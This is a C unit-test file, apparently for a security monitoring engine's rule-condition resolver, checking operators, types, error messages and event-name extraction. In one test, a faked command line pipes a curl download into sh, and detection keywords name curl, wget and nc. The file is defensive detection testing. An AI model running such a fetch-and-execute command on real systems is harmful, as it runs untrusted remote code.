/*
 * cond: what resolves, what does not and with which words; what each operator means on each type; event
 * names; sharing; running out of memory.
 */
#include "fake_fields.h"

#include "rules/cond.h"

#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

static struct arena arena;
static struct cond_cache *cache;
static struct event event;
static struct view view = { .event = &event };
static struct cond_problems problems;

static int set_up(void **state)
{
    (void)state;
    arena_init(&arena, 64 << 20);
    cache = cond_cache_new(&arena);
    fake_clear();
    return scratch_init(&view.scratch);
}

static int tear_down(void **state)
{
    (void)state;
    cond_cache_free(cache);
    arena_done(&arena);
    scratch_done(&view.scratch);
    return 0;
}

static struct ast *parsed(const char *text)
{
    struct ast *ast = NULL;
    uint32_t offset;
    struct err err = { 0 };
    if (parse_condition(&arena, str_of(text), FILTER_DEPTH_MAX, &ast, &offset, &err) < 0) {
        print_error("%s: %s\n", text, err.message);
        fail();
    }
    return ast;
}

static struct cond *resolved(const char *text)
{
    struct cond *cond = NULL;
    problems = (struct cond_problems){ 0 };
    assert_int_equal(cond_resolve(&arena, cache, parsed(text), &cond, &problems), 0);
    return cond;
}

static void assert_holds_is(const char *text, bool expected)
{
    struct cond *cond = resolved(text);
    if (!cond) {
        print_error("%s: %s\n", text, problems.n ? problems.items[0].message.p : "?");
        fail();
    }
    view.scratch.n = 0;
    bool got = cond_eval(cond, &view);
    if (got != expected) {
        print_error("%s is %s\n", text, got ? "true" : "false");
    }
    assert_int_equal(got, expected);
}

static void yes(const char *text)
{
    assert_holds_is(text, true);
}

static void no(const char *text)
{
    assert_holds_is(text, false);
}

static void both_no(const char *a, const char *b)
{
    no(a);
    no(b);
}

static const struct cond_problem *problem_of(const char *text, bool is_warning)
{
    struct cond *cond = resolved(text);
    for (uint32_t i = 0; i < problems.n; i++) {
        if (problems.items[i].is_warning == is_warning) {
            assert_true(is_warning || !cond);
            return &problems.items[i];
        }
    }
    print_error("%s: no problem\n", text);
    fail();
    return NULL;
}

static void refused(const char *text, const char *message)
{
    assert_string_equal(problem_of(text, false)->message.p, message);
}

static void warned(const char *text, const char *message)
{
    assert_string_equal(problem_of(text, true)->message.p, message);
}

static void test_texts(void **state)
{
    (void)state;
    fake_strz(FIELD_PROC_NAME, "Bash");
    yes("proc.name exists");
    yes("proc.name = Bash");
    yes("proc.name == Bash");
    no("proc.name = bash");
    yes("proc.name != bash");
    no("proc.name != Bash");
    yes("proc.name contains as");
    yes("proc.name contains ''");
    no("proc.name contains AS");
    yes("proc.name icontains bAS");
    yes("proc.name startswith Ba");
    no("proc.name startswith Bashx");
    yes("proc.name endswith sh");
    yes("proc.name glob 'B*'");
    no("proc.name glob 'b*'");
    yes("proc.name iglob 'b??h'");
    yes("proc.name regex '[A-Z]ash'");
    no("proc.name regex ash");
    yes("proc.name in (sh, Bash)");
    no("proc.name in ()");
    yes("proc.name intersects (Bash, x)");
    yes("not proc.name in (sh)");
    yes("proc.name < 9999 or proc.name >= 1");
}

static void test_order_of_texts_is_by_bytes(void **state)
{
    (void)state;
    fake_strz(FIELD_PROC_NAME, "100");
    yes("proc.name < 99");
    yes("proc.name <= 100");
    yes("proc.name >= 1");
    no("proc.name > 100");
}

static void test_paths(void **state)
{
    (void)state;
    fake_strz(FIELD_FD_NAME, "/etc/ssh/sshd_config");
    yes("fd.name pmatch (/etc)");
    yes("fd.name pmatch (/var, /etc/)");
    yes("fd.name pmatch (/etc/*/sshd_config)");
    no("fd.name pmatch (/et)");
    no("fd.name pmatch ()");
    no("fd.name pmatch (/etc/ssh/sshd_config/x)");
}

static void test_missing_is_false(void **state)
{
    (void)state;
    both_no("proc.name = x", "proc.name != x");
    both_no("proc.name exists", "proc.name in (x)");
    both_no("proc.pid < 5", "proc.pid >= 5");
    both_no("proc.name regex '.*x.'", "proc.name contains ''");
    both_no("proc.name = val(proc.pname)", "proc.name != val(proc.pname)");
    yes("not proc.name = x");
    no("len(proc.name) = 0");
    no("proc.name = anyof (a, b)");
    no("proc.name != allof (a, b)");
}

static void test_numbers(void **state)
{
    (void)state;
    fake_i64(FIELD_PROC_PID, -5);
    fake_u64(FIELD_USER_UID, UINT32_MAX);
    fake_u64(FIELD_EVT_NUM, UINT64_MAX);
    yes("proc.pid < 0 and proc.pid <= -5 and proc.pid >= -5 and not proc.pid > -5");
    yes("proc.pid = -5 and proc.pid != 5 and proc.pid in (1, -5)");
    yes("user.uid = -1");
    yes("user.uid = 4294967295");
    yes("user.uid > 0");
    yes("evt.num > 9223372036854775807");
    yes("proc.pid = -0x5");
    yes("proc.pid intersects (-5)");
}

static void test_doubles(void **state)
{
    (void)state;
    fake_add(FIELD_THREAD_CPU, (struct value){ .d = 12.5 });
    yes("thread.cpu = 12.5");
    yes("thread.cpu > 12");
    no("thread.cpu < 12.5");
    yes("thread.cpu in (1, 12.5)");
}

static void test_booleans(void **state)
{
    (void)state;
    fake_u64(FIELD_EVT_IS_IO, 1);
    yes("evt.is_io = true");
    no("evt.is_io = false");
    yes("evt.is_io != false");
    yes("evt.is_io in (true)");
}

static void test_buffers(void **state)
{
    (void)state;
    fake_str(FIELD_EVT_BUFFER, STR("ab\0cd"));
    yes("evt.buffer contains cd");
    yes("evt.buffer startswith ab");
    yes("evt.buffer endswith cd");
    yes("evt.buffer bcontains 6200");
    yes("evt.buffer bstartswith 6162");
    no("evt.buffer bstartswith 62");
    no("evt.buffer = ab");
    yes("evt.buffer != ab");
    yes("len(evt.buffer) = 5");
    yes("evt.buffer bcontains anyof (ff, 6364)");
}

static void test_addresses(void **state)
{
    (void)state;
    fake_ip(FIELD_FD_SIP, "10.0.0.1");
    fake_ip(FIELD_FD_CIP, "fe80::1");
    yes("fd.sip = 10.0.0.1");
    yes("fd.sip != 10.0.0.2");
    yes("fd.sip != ::1");
    no("fd.sip = ::1");
    yes("fd.sip in (1.1.1.1, 10.0.0.1)");
    yes("fd.cip = 'fe80::1'");
    fake_ip(FIELD_FD_SNET, "10.0.0.1");
    yes("fd.snet = 10.0.0.0/8");
    no("fd.snet = 11.0.0.0/8");
    yes("fd.snet != 11.0.0.0/8");
    yes("fd.snet != '::/0'");
    yes("fd.snet in (11.0.0.0/8, 10.0.0.0/31)");
    no("fd.snet in (11.0.0.0/8, 10.0.0.2/31)");
    yes("fd.snet = 0.0.0.0/0");
    yes("fd.snet = 10.0.0.1/32");
}

static void test_both_ends(void **state)
{
    (void)state;
    fake_ip(FIELD_FD_IP, "10.0.0.1");
    fake_ip(FIELD_FD_IP, "192.168.0.2");
    yes("fd.ip = 10.0.0.1");
    yes("fd.ip = 192.168.0.2");
    no("fd.ip = 1.1.1.1");
    no("fd.ip != 10.0.0.1");
    yes("fd.ip != 1.1.1.1");
    yes("fd.ip in (1.1.1.1, 192.168.0.2)");
    fake_u64(FIELD_FD_PORT, 40000);
    fake_u64(FIELD_FD_PORT, 443);
    yes("fd.port = https");
    no("fd.port != 443");
    yes("fd.port != 80");
    yes("fd.port < 1000");
    yes("fd.port > 1000");
    yes("fd.port in (80, 443)");
    fake_ip(FIELD_FD_NET, "10.0.0.1");
    fake_ip(FIELD_FD_NET, "192.168.0.2");
    yes("fd.net = 192.168.0.0/16");
    no("fd.net != 192.168.0.0/16");
    yes("fd.net in (192.168.0.0/16, 1.0.0.0/8)");
    no("fd.net in (1.0.0.0/8, 192.168.0.0/16)");
}

static void test_several_values(void **state)
{
    (void)state;
    fake_strz(FIELD_PROC_ANAME, "sh");
    fake_strz(FIELD_PROC_ANAME, "sshd");
    yes("proc.aname = sshd");
    yes("proc.aname != sshd");
    no("not proc.aname != sshd");
    yes("proc.aname in (sshd)");
    yes("proc.aname startswith ss");
    no("proc.aname = bash");
    yes("proc.aname exists");
    yes("proc.aname startswith oneof (ss, x)");
}

static void test_list_fields(void **state)
{
    (void)state;
    fake_strz(FIELD_FD_TYPES, "file");
    fake_strz(FIELD_FD_TYPES, "ipv4");
    no("fd.types in (file)");
    yes("fd.types in (file, ipv4, pipe)");
    yes("fd.types intersects (file)");
    no("fd.types intersects (pipe)");
    yes("fd.types exists");
    yes("len(fd.types) = 2");
    yes("toupper(fd.types) intersects (IPV4)");
}

static void test_modifiers(void **state)
{
    (void)state;
    fake_strz(FIELD_PROC_CMDLINE, "curl -s http://x | sh");
    yes("proc.cmdline contains anyof (curl, wget)");
    no("proc.cmdline contains anyof (nc, wget)");
    yes("proc.cmdline contains allof (curl, sh)");
    no("proc.cmdline contains allof (curl, wget)");
    yes("proc.cmdline contains oneof (curl, wget)");
    no("proc.cmdline contains oneof (curl, sh)");
    yes("proc.cmdline startswith oneof (curl, wget)");
    yes("proc.cmdline regex anyof ('a.*b', 'c.*h')");
    no("proc.cmdline regex allof ('a.*b', 'c.*h')");
    yes("proc.cmdline != allof (a, b)");
    yes("proc.cmdline = anyof ('curl -s http://x | sh')");
    yes("proc.cmdline != anyof ('curl -s http://x | sh', b)");
    no("proc.cmdline = anyof ()");
    no("proc.cmdline != allof ()");
    no("proc.cmdline = oneof ('curl -s http://x | sh', 'curl -s http://x | sh')");
}

static void test_transformers(void **state)
{
    (void)state;
    fake_strz(FIELD_PROC_NAME, "CaT");
    fake_strz(FIELD_PROC_EXEPATH, "/usr/bin/cat");
    fake_strz(FIELD_PROC_ARGS, "aGVsbG8");
    fake_strz(FIELD_FD_NAME, "/tmp/");
    fake_i64(FIELD_PROC_PID, 7);
    yes("tolower(proc.name) = cat");
    yes("toupper(proc.name) = CAT");
    yes("tolower(toupper(proc.name)) = cat");
    yes("basename(proc.exepath) = cat");
    yes("basename(fd.name) = ''");
    yes("basename(proc.name) = CaT");
    yes("b64(proc.args) = hello");
    no("b64(fd.name) exists");
    yes("len(proc.name) = 3");
    yes("len(proc.name) > 2");
    yes("join('-', (proc.name, 'x', proc.pid)) = CaT-x-7");
    yes("join('-', ()) = ''");
    yes("concat(proc.name, '!') = CaT!");
    yes("toupper(concat(proc.name, 'x')) = CATX");
    yes("len(join(',', (proc.name, len(proc.name)))) = 5");
    no("concat(proc.name, proc.pname) exists");
    yes("proc.name = val(proc.name)");
    yes("tolower(proc.name) = basename(proc.exepath)");
    no("proc.name = val(proc.exepath)");
    yes("proc.exepath contains basename(proc.exepath)");
    yes("proc.name in val(proc.name)");
}

static void test_base64(void **state)
{
    (void)state;
    static const struct {
        const char *text, *condition;
    } good[] = {
        { "aGVsbG8=", "b64(proc.args) = hello" },
        { "d29ybGQgIQ==", "b64(proc.args) = 'world !'" },
        { "", "b64(proc.args) = ''" },
        { "YQ", "b64(proc.args) = a" },
        { "YQBi", "b64(proc.args) = a" },
        { "+/+/", "b64(proc.args) exists" },
    };
    for (size_t i = 0; i < sizeof(good) / sizeof(*good); i++) {
        fake_clear();
        fake_strz(FIELD_PROC_ARGS, good[i].text);
        yes(good[i].condition);
    }
    static const char *const bad[] = { "a", "aaaaa", "a-b_", "a b=", "====" };
    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
        fake_clear();
        fake_strz(FIELD_PROC_ARGS, bad[i]);
        no("b64(proc.args) exists");
    }
}

static void test_full_scratch_is_missing(void **state)
{
    (void)state;
    fake_strz(FIELD_PROC_NAME, "name");
    struct cond *cond = resolved("toupper(proc.name) = NAME");
    struct cond *joined = resolved("concat(proc.name, 'x') = namex");
    for (size_t room = 0; room < 300; room++) {
        view.scratch.n = view.scratch.capacity - room;
        event.truncated = false;
        assert_int_equal(cond_eval(cond, &view), room >= 4);
        assert_int_equal(event.truncated, room < 4);
        view.scratch.n = view.scratch.capacity - room;
        event.truncated = false;
        bool holds = cond_eval(joined, &view);
        assert_int_equal(holds, !event.truncated);
    }
}

static void test_operators_and_types(void **state)
{
    (void)state;
    refused("proc.pid contains 1",
            "filter error: 'contains' operator not supported for numeric filters");
    refused("proc.pid pmatch (1)",
            "filter error: 'pmatch' operator not supported for numeric filters");
    refused("evt.is_io < 1", "filter error: '<' operator not supported for numeric filters");
    refused("proc.name bcontains 00",
            "filter error: 'bcontains' operator not supported for string filters");
    refused("evt.buffer glob x", "filter error: 'glob' operator not supported for buffer filters");
    refused("evt.buffer < 1", "filter error: '<' operator not supported for buffer filters");
    refused("fd.sip startswith 10",
            "filter error: 'startswith' operator not supported for ip address and network filters");
    refused("fd.types = file", "filter error: '=' operator not supported list filters");
    refused("fd.types regex 'a.c'", "filter error: 'regex' operator not supported list filters");
    refused("len(fd.types) contains 1",
            "filter error: 'contains' operator not supported for numeric filters");
    refused("evt.around[5] < 5", "filter error: evt.around supports only '=' comparison operator");
    refused("evt.rawarg[0] = 1", "filter error: '=' operator not supported for type 'DYN'");
}

static void test_bad_constants(void **state)
{
    (void)state;
    refused("proc.pid = abc", "abc is not a valid number");
    refused("proc.pid in (1, x)", "x is not a valid number");
    refused("fd.port = nosuch", "unrecognized protocol nosuch");
    refused("evt.is_io = yes", "filter error: unrecognized boolean value yes");
    refused("fd.sip = 1.2.3", "unrecognized IPv4 address 1.2.3");
    refused("fd.snet = 1.2.3.4", "unrecognized IP network 1.2.3.4");
    refused("evt.buffer bcontains xyz",
            "filter error: bcontains and bstartswith operator support hex strings only");
    assert_non_null(strstr(problem_of("proc.name regex 'a{2000}'", false)->message.p,
                           "invalid regex pattern: "));
}

static void test_unknown_fields(void **state)
{
    (void)state;
    const struct cond_problem *p = problem_of("proc.nam = x", false);
    assert_string_equal(p->message.p, "filter_check called with nonexistent field proc.nam");
    assert_string_equal(p->hint.p, "did you mean `proc.name`?");
    assert_true(p->is_unknown_filter);
    refused("no.such[1] = x", "filter_check called with nonexistent field no.such[1]");
    refused("evt.arg = x", "field 'evt.arg' requires an argument");
    assert_false(problems.items[0].is_unknown_filter);
    refused("proc.name[1] = x", "field 'proc.name' takes no argument");
}

static void test_unknown_event_types(void **state)
{
    (void)state;
    const struct cond_problem *p = problem_of("evt.type in (open, opn)", false);
    assert_string_equal(p->message.p, "unknown event type opn");
    assert_string_equal(p->hint.p, "did you mean `open`?");
    assert_true(p->is_unknown_filter);
    refused("evt.type != nosuchevent", "unknown event type nosuchevent");
    assert_non_null(resolved("evt.type contains nosuchevent"));
    refused("evt.type = val(proc.name)",
            "right-hand field comparisons on `evt.type`/`syscall.type` checks are not supported by "
            "event code search");
    refused("tolower(evt.type) = open",
            "event code search does not support `evt.type` checks with transformers");
    assert_non_null(resolved("tolower(evt.type) contains open"));
}

static void test_right_fields(void **state)
{
    (void)state;
    refused("proc.name = val(proc.pid)",
            "field 'proc.name' has type 'CHARBUF' while the right-hand side field 'proc.pid' has "
            "incompatible type 'INT64'");
    refused("proc.name = len(proc.pname)",
            "field 'proc.name' has type 'CHARBUF' while the right-hand side field 'proc.pname' has "
            "incompatible type 'UINT64'");
    refused("proc.aname = val(proc.name)",
            "field 'proc.aname' doesn't support right-hand side fields");
    refused("proc.name = val(proc.aname)",
            "field 'proc.aname' can't be used as a right-hand side field");
    refused("fd.snet = val(fd.sip)", "field type 'IPNET' doesn't support right-hand side fields");
    refused("proc.name regex val(proc.pname)",
            "operator 'regex' doesn't support right-hand side fields");
}

static void test_transformer_types(void **state)
{
    (void)state;
    refused("tolower(proc.pid) = 1",
            "can't add field transformer: type 'INT64' is not supported by 'tolower' transformer "
            "applied on field 'proc.pid'");
    refused(
        "len(proc.pid) = 1",
        "can't add field transformer: type 'INT64' is not supported by 'len' transformer applied "
        "on field 'proc.pid'");
    refused("tolower(proc.aname) = x", "field 'proc.aname' does not support transformers");
    refused("concat(proc.name, proc.pid) = x", "concat() arguments must be strings");
    refused("concat(proc.name) = x", "concat() requires at least 2 arguments");
    refused("concat(fd.types, 'x') = x", "concat() arguments must be strings");
    refused("join(fd.types, ('a')) = x",
            "join() first argument (separator) must be a single value, not a list");
}

static void test_warnings(void **state)
{
    (void)state;
    warned("proc.name regex '^bash$'",
           "regex check with '^bash$' may be optimized with simpler operators such as '=', "
           "'contains', 'startswith', 'endswith'");
    warned(
        "proc.name regex '.*ash'",
        "regex check with '.*ash' may be optimized with simpler operators such as '=', 'contains', "
        "'startswith', 'endswith'");
    warned("proc.name = proc.pname",
           "'proc.pname' may be a valid field misused as a const string value");
    warned("proc.name in (a, 'evt.arg[1]')",
           "'evt.arg[1]' may be a valid field misused as a const string value");
    warned(
        "proc.name = 'tolower(proc.pname)'",
        "'tolower(proc.pname)' may be a valid field transformer misused as a const string value");
    assert_true(problem_of("evt.dir = <", true)->is_deprecated);
    assert_non_null(strstr(problems.items[0].message.p, "evt.dir"));
    resolved("proc.name regex 'a.c' and fd.name = /proc.name and proc.name = example.com");
    assert_int_equal(problems.n, 0);
}

static void test_all_problems_at_once(void **state)
{
    (void)state;
    assert_null(resolved("proc.nam = x or (proc.pid = y and not evt.type = opn)"));
    assert_int_equal(problems.n, 3);
    assert_int_equal(problems.items[0].offset, 0);
    assert_true(problems.items[1].offset > 0);
    assert_true(problems.items[2].offset > problems.items[1].offset);
}

static struct nameset names_of(const char *text)
{
    struct nameset set;
    struct cond *cond = resolved(text);
    assert_non_null(cond);
    cond_names(cond, &set);
    return set;
}

static void names_are(const char *text, const char *a, const char *b)
{
    struct nameset set = names_of(text);
    unsigned n = (a ? 1U : 0U) + (b ? 1U : 0U);
    if (nameset_count(&set) != n) {
        print_error("%s: %u names\n", text, nameset_count(&set));
    }
    assert_int_equal(nameset_count(&set), n);
    assert_true(!a || nameset_has(&set, name_find(str_of(a))));
    assert_true(!b || nameset_has(&set, name_find(str_of(b))));
}

static void names_are_all(const char *text)
{
    struct nameset set = names_of(text);
    assert_int_equal(nameset_count(&set), NAME_MAX_ID);
}

static void names_are_all_but(const char *text, const char *a)
{
    struct nameset set = names_of(text);
    assert_int_equal(nameset_count(&set), NAME_MAX_ID - 1);
    assert_false(nameset_has(&set, name_find(str_of(a))));
}

static void test_event_names(void **state)
{
    (void)state;
    names_are("evt.type = open", "open", NULL);
    names_are("evt.type == open and proc.name = x", "open", NULL);
    names_are("evt.type in (open, close)", "open", "close");
    names_are("evt.type = open or evt.type = close", "open", "close");
    names_are("evt.type in (open, close) and not evt.type = close", "open", NULL);
    names_are("evt.type = open and evt.type = close", NULL, NULL);
    names_are("not (evt.type != open or proc.name = x)", "open", NULL);
    names_are("not (not evt.type = open and not evt.type = close)", "open", "close");
    names_are("syscall.type = open", "open", NULL);
    names_are("evt.type = anyof (open, close)", "open", "close");
    names_are("not evt.type exists", NULL, NULL);
    names_are("evt.type in ()", NULL, NULL);
    names_are_all("proc.name = x");
    names_are_all("not proc.name = x");
    names_are_all("evt.type = open or proc.name = x");
    names_are_all("not (evt.type = open and proc.name = x)");
    names_are_all("evt.type exists");
    names_are_all("evt.type startswith open");
    names_are_all("not evt.type startswith open");
    names_are_all("evt.type = allof (open, close)");
    names_are_all_but("evt.type != open", "open");
    names_are_all_but("not evt.type in (open)", "open");
    names_are_all_but("not syscall.type = open", "open");
    names_are_all_but("evt.type != allof (open)", "open");
}

static void test_event_number_placeholders(void **state)
{
    (void)state;
    static const char *const never[] = {
        "evt.num = 0",      "evt.num < 1",      "evt.num <= 0",      "evt.num in (0)",
        "evt.num in ()",    "not evt.num != 0", "not evt.num > 0",   "not evt.num >= 1",
        "not evt.num >= 0", "evt.num < 0",      "evt.num in (0, 0)", "not evt.num >= 0"
    };
    for (size_t i = 0; i < sizeof(never) / sizeof(*never); i++) {
        names_are(never[i], NULL, NULL);
    }
    static const char *const always[] = { "evt.num >= 0", "evt.num > 0",      "evt.num != 0",
                                          "evt.num >= 1", "not evt.num=0",    "evt.num = 1",
                                          "evt.num < 2",  "evt.num > 1",      "not evt.num = 1",
                                          "evt.num <= 1", "evt.num in (0, 1)" };
    for (size_t i = 0; i < sizeof(always) / sizeof(*always); i++) {
        names_are_all(always[i]);
    }
    names_are("evt.type = open and not evt.num = 0", "open", NULL);
    names_are("evt.type = open or evt.num = 0", "open", NULL);
}

static const struct check *first_check(const struct cond *cond)
{
    while (cond->kind != COND_CHECK) {
        cond = cond->items[0];
    }
    return cond->check;
}

static void test_one_list_is_converted_once(void **state)
{
    (void)state;
    struct ast *a = parsed("proc.pid in (1, 2)");
    struct ast *b = parsed("proc.ppid in (3)");
    struct ast *c = parsed("proc.name in (4)");
    b->check.values[0] = a->check.values[0];
    c->check.values[0] = a->check.values[0];
    struct cond *conds[3];
    struct ast *asts[3] = { a, b, c };
    for (int i = 0; i < 3; i++) {
        assert_int_equal(cond_resolve(&arena, cache, asts[i], &conds[i], &problems), 0);
    }
    const struct check *x = first_check(conds[0]);
    assert_ptr_equal(x->constants[0].identity, first_check(conds[1])->constants[0].identity);
    assert_ptr_not_equal(x->constants[0].identity, first_check(conds[2])->constants[0].identity);
    assert_ptr_equal(first_check(conds[2])->constants[0].strs, a->check.values[0].items);
}

static void test_equal_patterns_compile_once(void **state)
{
    (void)state;
    struct cond *a = resolved("proc.name regex 'a.c'");
    struct cond *b = resolved("fd.name regex 'a.c'");
    assert_ptr_equal(first_check(a)->regexes[0], first_check(b)->regexes[0]);
    struct cond *none = NULL;
    problems = (struct cond_problems){ 0 };
    assert_int_equal(cond_resolve(&arena, NULL, parsed("proc.name regex 'a.c'"), &none, &problems),
                     0);
    assert_null(none);
    assert_int_equal(cond_resolve(&arena, NULL, parsed("proc.name in (a)"), &none, &problems), 0);
    assert_non_null(none);
}

static void test_long_literals(void **state)
{
    (void)state;
    char *text = malloc(LITERAL_MAX + 100);
    static const size_t lengths[] = { 255, 256, 257, LITERAL_MAX };
    for (size_t i = 0; i < sizeof(lengths) / sizeof(*lengths); i++) {
        struct str before = STR("proc.name = ");
        size_t n = before.n;
        memcpy(text, before.p, n);
        memset(text + n, 'a', lengths[i]);
        text[n + lengths[i]] = '\0';
        assert_non_null(resolved(text));
        fake_clear();
        fake_str(FIELD_PROC_NAME, str_from(text + n, lengths[i]));
        yes(text);
    }
    free(text);
}

static void test_memory_runs_out(void **state)
{
    (void)state;
    struct ast *ast =
        parsed("proc.name in (a, b) and not proc.pid in (1, 2) or fd.name regex 'a.c' "
               "or join('-', (proc.name, proc.pid)) = x or proc.nam = x");
    unsigned failures = 0;
    for (uint64_t n = 1; n < 200; n++) {
        struct arena small;
        arena_init(&small, 1 << 20);
        mem_fail_after(n);
        struct cond_cache *own = cond_cache_new(&small);
        struct cond *cond = NULL;
        struct cond_problems list = { 0 };
        int r = own ? cond_resolve(&small, own, ast, &cond, &list) : -ENOMEM;
        mem_fail_after(0);
        assert_true(r == 0 || r == -ENOMEM);
        failures += r == -ENOMEM;
        cond_cache_free(own);
        arena_done(&small);
    }
    assert_true(failures > 0);
    for (size_t budget = 0; budget < 40000; budget += 97) {
        struct arena small;
        arena_init(&small, budget);
        struct cond_cache *own = cond_cache_new(&small);
        struct cond *cond = NULL;
        struct cond_problems list = { 0 };
        int r = own ? cond_resolve(&small, own, ast, &cond, &list) : -ENOMEM;
        assert_true(r == 0 || r == -ENOMEM);
        cond_cache_free(own);
        arena_done(&small);
    }
    cond_cache_free(NULL);
}

int main(void)
{
#define TEST(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)
    const struct CMUnitTest tests[] = {
        TEST(test_texts),
        TEST(test_order_of_texts_is_by_bytes),
        TEST(test_paths),
        TEST(test_missing_is_false),
        TEST(test_numbers),
        TEST(test_doubles),
        TEST(test_booleans),
        TEST(test_buffers),
        TEST(test_addresses),
        TEST(test_both_ends),
        TEST(test_several_values),
        TEST(test_list_fields),
        TEST(test_modifiers),
        TEST(test_transformers),
        TEST(test_base64),
        TEST(test_full_scratch_is_missing),
        TEST(test_operators_and_types),
        TEST(test_bad_constants),
        TEST(test_unknown_fields),
        TEST(test_unknown_event_types),
        TEST(test_right_fields),
        TEST(test_transformer_types),
        TEST(test_warnings),
        TEST(test_all_problems_at_once),
        TEST(test_event_names),
        TEST(test_event_number_placeholders),
        TEST(test_one_list_is_converted_once),
        TEST(test_equal_patterns_compile_once),
        TEST(test_long_literals),
        TEST(test_memory_runs_out),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
